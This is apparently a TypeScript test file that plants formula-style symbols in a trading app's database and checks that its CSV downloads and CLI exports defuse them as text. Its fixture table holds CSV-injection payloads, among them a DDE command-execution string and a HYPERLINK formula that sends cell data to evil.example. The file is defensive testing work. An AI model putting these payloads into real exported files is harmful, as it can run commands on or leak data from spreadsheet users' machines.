import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DataSource } from 'typeorm';
import { cleanUp, runCli, tempFolder } from '../../support/harness.js';
import { closeSockets, connect } from '../../support/harness-client.js';
import { DAY, type Fort, openFort, until } from './fort.js';

/** Symbols that no import lets in, as somebody who can write the database may plant them; by underlying. */
const FORMULAS: Record<string, string> = {
  'NSE_INDEX|Nifty 50': "=cmd|' /C calc'!A0",
  'NSE_INDEX|Nifty Bank': '=HYPERLINK("http://evil.example/?x="&A1,"NIFTY")',
  'NSE_INDEX|Nifty Fin Service': '+1+1',
  'NSE_INDEX|NIFTY MID SELECT': '-2+3',
  'NSE_EQ|INE002A01018': '@SUM(A1:A9)',
  'NSE_EQ|INE040A01034': '\t=1+1',
  'NSE_EQ|INE090A01021': 'X",=1+1,"',
  'NSE_EQ|INE009A01021': '＝1+1',
  'NSE_EQ|INE467B01029': '\n=1+1',
};
const KEYS = Object.keys(FORMULAS);

let fort: Fort;
let cookie: string;
let expiries: Map<string, string>;
beforeAll(async () => {
  fort = await openFort({ env: { MARKET_SWEEP: 'off', PINNED: '' } });
  await fort.ready();
  // Nobody has asked for the list yet, so none is remembered.
  const db = fort.app.get(DataSource);
  for (const [key, symbol] of Object.entries(FORMULAS))
    await db.query('UPDATE underlying SET symbol = $1, name = $1 WHERE "key" = $2', [symbol, key]);
  cookie = await fort.signIn();
  const listed = JSON.parse((await fort.ask('/api/underlyings', { cookie })).text) as {
    key: string;
    nearestExpiry: string;
  }[];
  expiries = new Map(listed.map(({ key, nearestExpiry }) => [key, nearestExpiry]));
  const screen = await connect(fort.url, { cookie, origin: fort.url });
  for (const underlying of KEYS)
    await screen.emitWithAck('chain:watch', { underlying, expiry: expiries.get(underlying)! });
  const captured = `oi_captures_total{outcome="captured"} ${KEYS.length}\n`;
  await until('the captures', async () => (await fort.ask('/metrics')).text.includes(captured));
});
afterAll(async () => {
  closeSockets();
  await fort.close();
  await cleanUp();
});

/** The cells of a CSV file as a spreadsheet reads them (RFC 4180). */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1)!.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}

/** Every row as wide as the first, no cell a formula, and the symbol there, behind an apostrophe. */
function expectDefused(text: string, key: string, column: number): void {
  const rows = cellsOf(text);
  expect(rows.length).toBeGreaterThan(5);
  expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  // A number may be negative; whatever else begins like one is a formula.
  for (const cell of rows.flat())
    if (!/^-\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  expect(rows[1]![column]!.replace(/^'/, '')).toBe(FORMULAS[key]);
}

describe('S17 formulas for symbols in the database (CSV injection)', () => {
  it.each(KEYS)('should be text in the table that is saved as CSV: %s', async (key) => {
    const path = `/api/chains/${encodeURIComponent(key)}/${expiries.get(key)}/table.csv`;
    const answer = await fort.ask(path, { cookie });
    expect([answer.status, answer.headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(answer.headers['content-disposition']).toBe('attachment; filename="oi-table.csv"');
    expectDefused(answer.text, key, 0);
  });

  it.each(KEYS.slice(0, 2))(
    'should be text in the export of the day, and in its previous OI: %s',
    async (key) => {
      const folder = tempFolder();
      const [day, previous] = [join(folder, 'day.csv'), join(folder, 'previous.csv')];
      const args = [
        'days',
        'export',
        '--underlying',
        key,
        '--date',
        DAY,
        '--out',
        day,
        '--prev-oi-out',
        previous,
      ];
      const env = { DATABASE_URL: `sqlite:${join(fort.dir, 'data/tracker.db')}` };
      expect(await runCli(args, env)).toMatchObject({ code: 0 });
      expectDefused(await readFile(day, 'utf8'), key, 1);
      expectDefused(await readFile(previous, 'utf8'), key, 0);
    },
  );
});
